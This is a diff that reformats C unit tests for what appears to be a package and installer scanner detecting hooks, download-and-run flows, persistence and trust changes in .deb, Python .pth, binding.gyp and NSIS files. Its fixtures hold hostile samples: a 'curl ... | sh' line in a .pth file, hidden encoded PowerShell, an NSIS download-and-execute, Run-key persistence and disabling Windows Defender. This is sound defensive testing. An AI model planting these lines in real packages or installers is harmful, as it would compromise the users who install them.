@@ -3,7 +3,8 @@
 
 #include "read/readers.h"
 
-static struct member *read_with(const struct reader *r, const char *path, const char *old, const char *new_)
+static struct member *read_with(
+	const struct reader *r, const char *path, const char *old, const char *new_)
 {
 	struct member *m = member_make(path, old ? str_of(old) : STR_NONE, str_of(new_));
 
@@ -19,14 +20,17 @@ static size_t telling(const struct member *m)
 
 	for (size_t i = 0; i < m->n_facts; i++)
 		n += !(m->facts[i].flags & FACT_OF_OLD) &&
-			!(m->facts[i].kind == FACT_MANIFEST && (str_is(m->facts[i].key, "name") || str_is(m->facts[i].key, "version")));
+			!(m->facts[i].kind == FACT_MANIFEST &&
+				(str_is(m->facts[i].key, "name") ||
+					str_is(m->facts[i].key, "version")));
 	return n;
 }
 
 static void deb_control(void **state)
 {
-	static const char old[] = "Package: tool\nVersion: 1.0-1\nMaintainer: A <a@example.test>\nDepends: libc6 (>= 2.36), liba | libb,\n libd (= 1)\n"
-				  "Description: a tool\n that does\n";
+	static const char old[] =
+		"Package: tool\nVersion: 1.0-1\nMaintainer: A <a@example.test>\nDepends: libc6 (>= 2.36), liba | libb,\n libd (= 1)\n"
+		"Description: a tool\n that does\n";
 	struct member *m = read_with(&reader_manifest, "tool_1.deb!/control.tar.xz!/control", old,
 		"Package: tool\nVersion: 1.0-2\nMaintainer: B <b@example.test>\nDepends: libc6 (>= 2.37), liba | libb,\n libd (= 1), curl\n"
 		"Description: a tool\n that does\n");
@@ -45,32 +49,38 @@ static void deb_control(void **state)
 
 static void deb_scripts(void **state)
 {
-	struct member *m = read_with(&reader_manifest, "t.deb!/control.tar.xz!/postinst", NULL, "#!/bin/sh\nset -e\n");
+	struct member *m = read_with(
+		&reader_manifest, "t.deb!/control.tar.xz!/postinst", NULL, "#!/bin/sh\nset -e\n");
 
 	assert_int_equal(member_count(m, FACT_HOOK, "deb:postinst"), 1);
 	assert_str(m->facts[0].detail, "postinst");
 	assert_int_equal(m->facts[0].flags & FACT_OF_OLD, 0);
 	member_free(m);
-	m = read_with(&reader_manifest, "t.deb!/control.tar.xz!/postinst", "#!/bin/sh\n", "#!/bin/sh\nset -e\n");
+	m = read_with(&reader_manifest, "t.deb!/control.tar.xz!/postinst", "#!/bin/sh\n",
+		"#!/bin/sh\nset -e\n");
 	assert_int_equal(m->facts[0].flags & FACT_OF_OLD, FACT_OF_OLD);
 	member_free(m);
-	m = member_make("package/postinst", STR_NONE, STR("#!/bin/sh\n")); /* a file of that name elsewhere */
+	m = member_make("package/postinst", STR_NONE,
+		STR("#!/bin/sh\n")); /* a file of that name elsewhere */
 	assert_int_equal(reader_manifest.claim(&m->in), 0);
 	member_free(m);
 }
 
 static void python(void **state)
 {
-	struct member *m = read_with(&reader_manifest, "x/site-packages/evil.pth", NULL, "./src\nimport os; os.system('curl https://a.example/x | sh')\n");
+	struct member *m = read_with(&reader_manifest, "x/site-packages/evil.pth", NULL,
+		"./src\nimport os; os.system('curl https://a.example/x | sh')\n");
 
 	assert_int_equal(member_count(m, FACT_HOOK, "python:pth"), 1);
 	assert_int_equal(m->facts[0].line, 2);
 	assert_int_equal(member_count(m, FACT_FLOW, "net>exec"), 1);
 	member_free(m);
-	m = read_with(&reader_manifest, "x/site-packages/paths.pth", NULL, "./src\n../lib\n# import nothing\n");
+	m = read_with(&reader_manifest, "x/site-packages/paths.pth", NULL,
+		"./src\n../lib\n# import nothing\n");
 	assert_int_equal(m->n_facts, 0);
 	member_free(m);
-	m = read_with(&reader_manifest, "x-1.dist-info/METADATA", "Name: x\nVersion: 1\nRequires-Dist: a>=1\n\nbody\n",
+	m = read_with(&reader_manifest, "x-1.dist-info/METADATA",
+		"Name: x\nVersion: 1\nRequires-Dist: a>=1\n\nbody\n",
 		"Name: x\nVersion: 2\nRequires-Dist: a>=2\nRequires-Dist: b ; extra == 'c'\n\nbody\nVersion: 9\n");
 	assert_int_equal(member_count(m, FACT_DEP_ADDED, NULL), 1);
 	assert_str(member_find(m, FACT_DEP_ADDED, "b")->detail, "Requires-Dist");
@@ -80,8 +90,11 @@ static void python(void **state)
 
 static void gyp_questions(void **state)
 {
-	static const char *const innocent[] = {"\"<!(node -p \\\"process.versions.node.split('.')[0]\\\")\"", "\"<!@(pkg-config --cflags krb5-gssapi)\"",
-		"\"<!(node -e \\\"require('nan')\\\")\"", "\"<!(uname -m)\"", "\"<(module_root_dir)/a\""};
+	static const char *const innocent[] = {
+		"\"<!(node -p \\\"process.versions.node.split('.')[0]\\\")\"",
+		"\"<!@(pkg-config --cflags krb5-gssapi)\"",
+		"\"<!(node -e \\\"require('nan')\\\")\"", "\"<!(uname -m)\"",
+		"\"<(module_root_dir)/a\""};
 	struct member *m;
 
 	for (size_t i = 0; i < sizeof(innocent) / sizeof(innocent[0]); i++) {
@@ -91,7 +104,8 @@ static void gyp_questions(void **state)
 		assert_int_equal(m->n_facts, 0);
 		member_free(m);
 	}
-	m = read_with(&reader_manifest, "package/binding.gyp", "{}", "\"<!(node -e \\\"require('child_process').execSync('id')\\\")\"");
+	m = read_with(&reader_manifest, "package/binding.gyp", "{}",
+		"\"<!(node -e \\\"require('child_process').execSync('id')\\\")\"");
 	assert_int_equal(member_count(m, FACT_HOOK, NULL), 1);
 	member_free(m);
 }
@@ -137,7 +151,8 @@ static void nsis_version_step(void **state)
 		"  File \"$PLUGINSDIR/app-64.7z\"\n  WriteRegStr HKLM \"Software\\Test\" \"DisplayVersion\" \"10.0.19\"\n  Call function_4\n"
 		"  ExecWait \"$\\\"$INSTDIR\\setup-10.0.19.exe$\\\" /S\" $0\n  StrCmp \"$0\" \"1\" +2 0\n  Goto +3\n  DetailPrint \"Done\"\nSectionEnd\n"
 		"Function .onInit\n  StrCpy $_33_ \"10.0.19\"\n  Return\nFunctionEnd\n";
-	struct member *m = read_with(&reader_nsis_lines, "setup.exe!/[install script].nsi", nsi, next);
+	struct member *m = read_with(
+		&reader_nsis_lines, "setup.exe!/[install script].nsi", nsi, next);
 
 	assert_int_equal(m->n_facts, 0);
 	member_free(m);
@@ -158,7 +173,9 @@ static void nsis_runs(void **state)
 	assert_int_equal(f->line, 14);
 	assert_int_equal(m->n_facts, 1);
 	member_free(m);
-	m = read_nsi("  nsExec::ExecToLog \"powershell -w hidden -enc SQBFAFgA\" ; CallInstDLL \"$PLUGINSDIR\\nsExec.dll\"\n", nsi);
+	m = read_nsi(
+		"  nsExec::ExecToLog \"powershell -w hidden -enc SQBFAFgA\" ; CallInstDLL \"$PLUGINSDIR\\nsExec.dll\"\n",
+		nsi);
 	assert_int_equal(member_count(m, FACT_HOOK, "nsis:exec"), 1);
 	assert_str(member_find(m, FACT_COMMAND, NULL)->key, "powershell");
 	member_free(m);
@@ -174,25 +191,32 @@ static void nsis_runs(void **state)
 
 static void nsis_downloads(void **state)
 {
-	struct member *m = read_nsi("  Push \"/END\"\n  inetc::get \"/SILENT\" \"http://198.51.100.7/u.exe\" \"$TEMP\\u.exe\" \"/END\" ; CallInstDLL \"x\"\n"
-				    "  Exec \"$\\\"$TEMP\\u.exe$\\\" /S\"\n", nsi);
+	struct member *m = read_nsi(
+		"  Push \"/END\"\n  inetc::get \"/SILENT\" \"http://198.51.100.7/u.exe\" \"$TEMP\\u.exe\" \"/END\" ; CallInstDLL \"x\"\n"
+		"  Exec \"$\\\"$TEMP\\u.exe$\\\" /S\"\n",
+		nsi);
 	const struct fact *f = member_find(m, FACT_FLOW, NULL);
 
 	assert_non_null(f);
 	assert_str(f->key, "net>run");
 	assert_str(f->value, "http://198.51.100.7/u.exe");
-	assert_int_equal(f->flags & (FACT_NEW_SOURCE | FACT_NEW_SINK), FACT_NEW_SOURCE | FACT_NEW_SINK);
+	assert_int_equal(
+		f->flags & (FACT_NEW_SOURCE | FACT_NEW_SINK), FACT_NEW_SOURCE | FACT_NEW_SINK);
 	assert_int_equal(member_count(m, FACT_HOST, "198.51.100.7"), 1);
 	member_free(m);
-	m = read_nsi("  NSISdl::download \"https://dl.example.test/u.bin\" \"$INSTDIR\\u.bin\" ; CallInstDLL \"x\"\n", nsi);
+	m = read_nsi(
+		"  NSISdl::download \"https://dl.example.test/u.bin\" \"$INSTDIR\\u.bin\" ; CallInstDLL \"x\"\n",
+		nsi);
 	assert_str(member_find(m, FACT_FLOW, NULL)->key, "net>file");
 	member_free(m);
 	/* a digit of the host is no version */
-	m = read_with(&reader_nsis_lines, "s.exe!/[install script].nsi", "  NSISdl::download \"http://192.0.2.1/v1/u\" \"$TEMP\\u\" ; x\n",
+	m = read_with(&reader_nsis_lines, "s.exe!/[install script].nsi",
+		"  NSISdl::download \"http://192.0.2.1/v1/u\" \"$TEMP\\u\" ; x\n",
 		"  NSISdl::download \"http://192.0.2.9/v1/u\" \"$TEMP\\u\" ; x\n");
 	assert_int_equal(member_count(m, FACT_FLOW, NULL), 1);
 	member_free(m);
-	m = read_with(&reader_nsis_lines, "s.exe!/[install script].nsi", "  NSISdl::download \"http://192.0.2.1/v1/u\" \"$TEMP\\u\" ; x\n",
+	m = read_with(&reader_nsis_lines, "s.exe!/[install script].nsi",
+		"  NSISdl::download \"http://192.0.2.1/v1/u\" \"$TEMP\\u\" ; x\n",
 		"  NSISdl::download \"http://192.0.2.1/v2/u\" \"$TEMP\\u\" ; x\n");
 	assert_int_equal(member_count(m, FACT_FLOW, NULL), 0);
 	member_free(m);
@@ -201,18 +225,26 @@ static void nsis_downloads(void **state)
 static void nsis_stays(void **state)
 {
 	static const char *const rows[][2] = {
-		{"  WriteRegStr HKCU \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\" \"Up\" \"$APPDATA\\up.exe\"\n", "persist"},
-		{"  CreateShortCut \"$SMSTARTUP\\Up.lnk\" \"$INSTDIR\\up.exe\" \"\" \"\" 0x0\n", "persist"},
-		{"  SimpleSC::InstallService \"Up\" \"Up\" \"16\" \"2\" \"$INSTDIR\\up.exe\" \"\" \"\" \"\" ; CallInstDLL \"x\"\n", "persist"},
-		{"  WriteRegDWORD HKLM \"Software\\Policies\\Microsoft\\Windows Defender\" \"DisableAntiSpyware\" \"1\"\n", NULL},
-		{"  WriteRegBin HKLM \"Software\\Microsoft\\SystemCertificates\\Root\\Certificates\\AB\" \"Blob\" [data]\n", NULL},
-		{"  WriteRegStr HKLM \"Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\Test\" \"Publisher\" \"Test\"\n", ""},
-		{"  CreateShortCut \"$SMPROGRAMS\\Test.lnk\" \"$INSTDIR\\app.exe\" \"\" \"\" 0x0\n", ""},
+		{"  WriteRegStr HKCU \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\" \"Up\" \"$APPDATA\\up.exe\"\n",
+			"persist"},
+		{"  CreateShortCut \"$SMSTARTUP\\Up.lnk\" \"$INSTDIR\\up.exe\" \"\" \"\" 0x0\n",
+			"persist"},
+		{"  SimpleSC::InstallService \"Up\" \"Up\" \"16\" \"2\" \"$INSTDIR\\up.exe\" \"\" \"\" \"\" ; CallInstDLL \"x\"\n",
+			"persist"},
+		{"  WriteRegDWORD HKLM \"Software\\Policies\\Microsoft\\Windows Defender\" \"DisableAntiSpyware\" \"1\"\n",
+			NULL},
+		{"  WriteRegBin HKLM \"Software\\Microsoft\\SystemCertificates\\Root\\Certificates\\AB\" \"Blob\" [data]\n",
+			NULL},
+		{"  WriteRegStr HKLM \"Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\Test\" \"Publisher\" \"Test\"\n",
+			""},
+		{"  CreateShortCut \"$SMPROGRAMS\\Test.lnk\" \"$INSTDIR\\app.exe\" \"\" \"\" 0x0\n",
+			""},
 	};
 
 	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
 		struct member *m = read_nsi(rows[i][0], nsi);
-		size_t persist = member_count(m, FACT_PATH, "persist"), trust = member_count(m, FACT_TRUST, NULL);
+		size_t persist = member_count(m, FACT_PATH, "persist"),
+		       trust = member_count(m, FACT_TRUST, NULL);
 
 		if (persist != (size_t)(rows[i][1] && *rows[i][1]) || trust != (size_t)!rows[i][1])
 			print_error("%s", rows[i][0]);
@@ -224,7 +256,9 @@ static void nsis_stays(void **state)
 
 static void nsis_stays_hidden(void **state)
 {
-	struct member *m = read_nsi("  WriteRegStr HKCU \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\" \"Up\" \"powershell -w hidden -enc SQBFAFgA\"\n", nsi);
+	struct member *m = read_nsi(
+		"  WriteRegStr HKCU \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\" \"Up\" \"powershell -w hidden -enc SQBFAFgA\"\n",
+		nsi);
 
 	assert_int_equal(member_count(m, FACT_PATH, "persist"), 1);
 	assert_int_equal(member_count(m, FACT_FLOW, "data>persist"), 1);
@@ -252,9 +286,17 @@ static void nsis_many_equal_lines(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(deb_control), cmocka_unit_test(deb_scripts), cmocka_unit_test(python), cmocka_unit_test(gyp), cmocka_unit_test(gyp_questions),
-		cmocka_unit_test(nsis_version_step), cmocka_unit_test(nsis_runs), cmocka_unit_test(nsis_downloads), cmocka_unit_test(nsis_stays),
-		cmocka_unit_test(nsis_stays_hidden), cmocka_unit_test(nsis_many_equal_lines),
+		cmocka_unit_test(deb_control),
+		cmocka_unit_test(deb_scripts),
+		cmocka_unit_test(python),
+		cmocka_unit_test(gyp),
+		cmocka_unit_test(gyp_questions),
+		cmocka_unit_test(nsis_version_step),
+		cmocka_unit_test(nsis_runs),
+		cmocka_unit_test(nsis_downloads),
+		cmocka_unit_test(nsis_stays),
+		cmocka_unit_test(nsis_stays_hidden),
+		cmocka_unit_test(nsis_many_equal_lines),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
